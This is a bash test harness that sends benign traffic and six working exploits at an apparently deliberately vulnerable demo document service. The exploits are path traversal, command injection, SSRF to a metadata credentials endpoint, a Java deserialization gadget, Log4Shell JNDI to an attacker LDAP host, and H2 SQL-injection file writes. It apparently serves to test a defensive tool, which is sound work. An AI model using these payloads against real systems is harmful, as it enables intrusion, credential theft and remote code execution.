#!/usr/bin/env bash
# Drives the docservice: `benign` is what its users do every day, `attack` is one real exploit per vulnerability.
#
#   examples/traffic.sh benign BASE_URL     exit 0 when every request got its expected answer
#   examples/traffic.sh attack BASE_URL     exit 0 when every attack could be attempted (whatever its outcome)
#   examples/traffic.sh wait BASE_URL       waits up to WAIT_SECONDS (60) for GET /health to answer
#
# Every outcome is one line on stdout:  RESULT <benign|attack> <name> <OK|FAILED|SUCCEEDED|BLOCKED> <evidence>
# For attacks, SUCCEEDED means the evidence of exploitation was observed (leaked content, or a file the injected
# command created, read back through the service's own API); BLOCKED means it was not.
#
# Environment (defaults fit examples/demo.sh, where the service reaches its neighbours by container name):
#   ATTACKER_JAR   attacker.jar, to build serialized payloads     (examples/target/attacker.jar)
#   UPSTREAM_URL   the classification service, as the service sees it (http://upstream:8081)
#   METADATA_URL   the internal credentials endpoint an SSRF goes for
#                  (http://metadata:9090/latest/meta-data/iam/security-credentials/docservice)
#   LDAP_URL       the attacker's LDAP server, as the service sees it (ldap://attacker:1389)
#   EVIDENCE_DIR   where the service stores documents: injected commands drop files there (/app/data/docs)
#   LDAP_LOG_COMMAND optional: a command printing the attacker LDAP server's output, to show that the lookup arrived
#                  (e.g. "scripts/podman.sh logs attacker" or "cat ldap.log")
#   RUN_ID         makes the evidence file names unique (default: time and pid)
set -euo pipefail

here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
attacker_jar="${ATTACKER_JAR:-$here/target/attacker.jar}"
upstream_url="${UPSTREAM_URL:-http://upstream:8081}"
metadata_url="${METADATA_URL:-http://metadata:9090/latest/meta-data/iam/security-credentials/docservice}"
ldap_url="${LDAP_URL:-ldap://attacker:1389}"
evidence_dir="${EVIDENCE_DIR:-/app/data/docs}"
run_id="${RUN_ID:-$(date +%s)-$$}"

usage() {
  sed -n '2,20p' "${BASH_SOURCE[0]}" | sed 's/^# \{0,1\}//' >&2
  exit 2
}
[[ $# -eq 2 ]] || usage
kind="$1"
base="${2%/}"
command -v curl >/dev/null || { echo "traffic: curl is missing" >&2; exit 2; }

tmp="$(mktemp -d)"
trap 'rm -rf "$tmp"' EXIT

# request NAME METHOD PATH [curl args...]: body to $tmp/NAME.body, HTTP status on stdout ("000" when no answer).
request() {
  local name="$1" method="$2" path="$3"
  shift 3
  curl -sS -o "$tmp/$name.body" -w '%{http_code}' --max-time 20 -X "$method" "$@" "$base$path" 2>"$tmp/$name.err" || true
}

urlencode() {
  local s="$1" out="" c i
  for ((i = 0; i < ${#s}; i++)); do
    c="${s:i:1}"
    case "$c" in
      [a-zA-Z0-9.~_-]) out+="$c" ;;
      *) out+="$(printf '%%%02X' "'$c")" ;;
    esac
  done
  printf '%s' "$out"
}

payload() {
  command -v java >/dev/null || { echo "traffic: java is missing (needed to build serialized payloads)" >&2; exit 2; }
  [[ -f "$attacker_jar" ]] || { echo "traffic: $attacker_jar is missing; build it: mvn -q -pl examples package" >&2; exit 2; }
  java -cp "$attacker_jar" dev.inlay.examples.attacker.Payloads "$@"
}

failures=0
# expect NAME EXPECTED_STATUS GREP_PATTERN METHOD PATH [curl args...]
expect() {
  local name="$1" want="$2" pattern="$3" status
  shift 3
  status="$(request "$name" "$@")"
  if [[ "$status" == "$want" ]] && { [[ -z "$pattern" ]] || grep -q -- "$pattern" "$tmp/$name.body"; }; then
    echo "RESULT benign $name OK http=$status"
  else
    failures=$((failures + 1))
    echo "RESULT benign $name FAILED http=$status want=$want${pattern:+ body~$pattern} body=$(head -c 200 "$tmp/$name.body" 2>/dev/null | tr '\n' ' ')"
  fi
}

benign() {
  local unique="upload-$run_id.txt"
  expect health 200 '^ok' GET /health
  expect put-invoice 201 '"finance"' PUT '/docs?name=q3-invoice.txt&title=Q3%20invoice' \
    --data-binary 'Invoice 2024-117: payment due in 30 days.'
  expect put-contract 201 '"legal"' PUT '/docs?name=supplier-contract.txt&title=Supplier%20contract' \
    --data-binary 'Framework agreement with ACME, contract term 24 months.'
  expect put-minutes 201 '"minutes"' PUT '/docs?name=board-minutes.txt&title=Board%20minutes' \
    --data-binary 'Minutes of the board meeting: budget approved.'
  expect put-unique 201 '"sha256"' PUT "/docs?name=$unique&title=Scan" --data-binary "A scanned letter, run $run_id."
  expect read-invoice 200 'payment due' GET '/docs?name=q3-invoice.txt'
  expect read-unique 200 "run $run_id" GET "/docs?name=$unique"
  expect list 200 'supplier-contract.txt' GET /docs/list
  expect list-by-title 200 'board-minutes.txt' GET '/docs/list?sort=title'
  expect search 200 'q3-invoice.txt' GET '/search?q=payment'
  expect search-none 200 '^\[\]' GET '/search?q=nothing-matches-this'
  expect preview 200 'Welcome' GET "/preview?url=$(urlencode "$upstream_url/public/welcome.html")"
  payload document imported-memo.txt 'Imported memo' 'Meeting memo from the desktop client.' >"$tmp/import.ser"
  expect import 201 '"imported-memo.txt"' POST /import --data-binary @"$tmp/import.ser" \
    -H 'Content-Type: application/x-java-serialized-object'
  expect read-imported 200 'desktop client' GET '/docs?name=imported-memo.txt'
  expect missing 404 '' GET '/docs?name=does-not-exist.txt'
  if [[ $failures -gt 0 ]]; then
    echo "traffic: $failures benign request(s) failed" >&2
    return 1
  fi
}

# evidence_file NAME: true when the service can read back the file an injected command was told to create.
evidence_file() {
  local status
  status="$(request "evidence-$1" GET "/docs?name=$1")"
  [[ "$status" == 200 ]]
}

report() {
  local name="$1" outcome="$2" detail="$3"
  echo "RESULT attack $name $outcome $detail"
}

attack_path_traversal() {
  local status
  status="$(request traversal GET '/docs?name=../../../etc/passwd')"
  if grep -q '^root:x:0:0' "$tmp/traversal.body"; then
    report path-traversal SUCCEEDED "http=$status read /etc/passwd: $(head -n1 "$tmp/traversal.body")"
  else
    report path-traversal BLOCKED "http=$status $(head -c 160 "$tmp/traversal.body" | tr '\n' ' ')"
  fi
}

attack_command_injection() {
  local evidence="pwned-cmd-$run_id" status
  status="$(request cmd GET "/diag/lookup?host=$(urlencode "localhost; id; touch $evidence_dir/$evidence")")"
  if evidence_file "$evidence" || grep -q 'uid=' "$tmp/cmd.body"; then
    report command-injection SUCCEEDED "http=$status ran: $(grep -o 'uid=[^ ]*' "$tmp/cmd.body" | head -n1) created $evidence_dir/$evidence"
  else
    report command-injection BLOCKED "http=$status $(head -c 160 "$tmp/cmd.body" | tr '\n' ' ')"
  fi
}

attack_ssrf() {
  local status
  status="$(request ssrf GET "/preview?url=$(urlencode "$metadata_url")")"
  if grep -q 'SecretAccessKey' "$tmp/ssrf.body"; then
    report ssrf SUCCEEDED "http=$status leaked $(grep -o '"AccessKeyId":"[^"]*"' "$tmp/ssrf.body")"
  else
    report ssrf BLOCKED "http=$status $(head -c 160 "$tmp/ssrf.body" | tr '\n' ' ')"
  fi
}

attack_deserialization() {
  local evidence="pwned-deser-$run_id" status
  payload cc6 touch "$evidence_dir/$evidence" >"$tmp/cc6.ser"
  status="$(request deser POST /import --data-binary @"$tmp/cc6.ser" -H 'Content-Type: application/x-java-serialized-object')"
  sleep 1
  if evidence_file "$evidence"; then
    report deserialization SUCCEEDED "http=$status gadget ran touch, created $evidence_dir/$evidence"
  else
    report deserialization BLOCKED "http=$status $(head -c 160 "$tmp/deser.body" | tr '\n' ' ')"
  fi
}

# SQL injection into the list's ORDER BY (a LIMIT, evaluated even when there are no rows): H2's FILE_WRITE, run by the
# database library, overwrites a document the application itself writes (docs/COVERAGE.md, "Attribution": a per-process policy allows it, a per-component one not).
attack_sql_injection() {
  local marker="tampered-$run_id" status
  status="$(request sqli GET "/docs/list?sort=$(urlencode "name LIMIT (SELECT FILE_WRITE(STRINGTOUTF8('$marker'), '$evidence_dir/q3-invoice.txt'))")")"
  request sqli-check GET '/docs?name=q3-invoice.txt' >/dev/null
  if grep -q "$marker" "$tmp/sqli-check.body"; then
    report sql-injection SUCCEEDED "http=$status H2 FILE_WRITE overwrote $evidence_dir/q3-invoice.txt"
  else
    report sql-injection BLOCKED "http=$status $(head -c 160 "$tmp/sqli.body" | tr '\n' ' ')"
  fi
}

ldap_lookups() {
  { $LDAP_LOG_COMMAND 2>/dev/null || true; } | grep -c "LDAP-LOOKUP .* base=o=$1 " || true
}

attack_log4shell() {
  local evidence="pwned-jndi-$run_id" status before=0 after=0 i
  [[ -n "${LDAP_LOG_COMMAND:-}" ]] && before="$(ldap_lookups "$evidence")"
  status="$(request jndi GET "/search?q=$(urlencode "\${jndi:$ldap_url/o=$evidence}")" -A "\${jndi:$ldap_url/o=$evidence}")"
  for i in 1 2 3 4 5; do
    evidence_file "$evidence" && break
    sleep 1
  done
  local lookup=""
  if [[ -n "${LDAP_LOG_COMMAND:-}" ]]; then
    after="$(ldap_lookups "$evidence")"
    lookup=" ldap-lookups=$((after - before))"
  fi
  if evidence_file "$evidence"; then
    report log4shell SUCCEEDED "http=$status JNDI lookup fetched the gadget, created $evidence_dir/$evidence$lookup"
  else
    report log4shell BLOCKED "http=$status no $evidence_dir/$evidence$lookup"
  fi
}

attack() {
  attack_path_traversal
  attack_command_injection
  attack_ssrf
  attack_deserialization
  attack_log4shell
  attack_sql_injection
}

wait_healthy() {
  local deadline=$((SECONDS + ${WAIT_SECONDS:-60}))
  while ((SECONDS < deadline)); do
    [[ "$(request health GET /health)" == 200 ]] && return 0
    sleep 0.5
  done
  echo "traffic: $base/health did not answer within ${WAIT_SECONDS:-60} s" >&2
  return 1
}

case "$kind" in
  wait) wait_healthy ;;
  benign) benign ;;
  attack) attack ;;
  *) usage ;;
esac
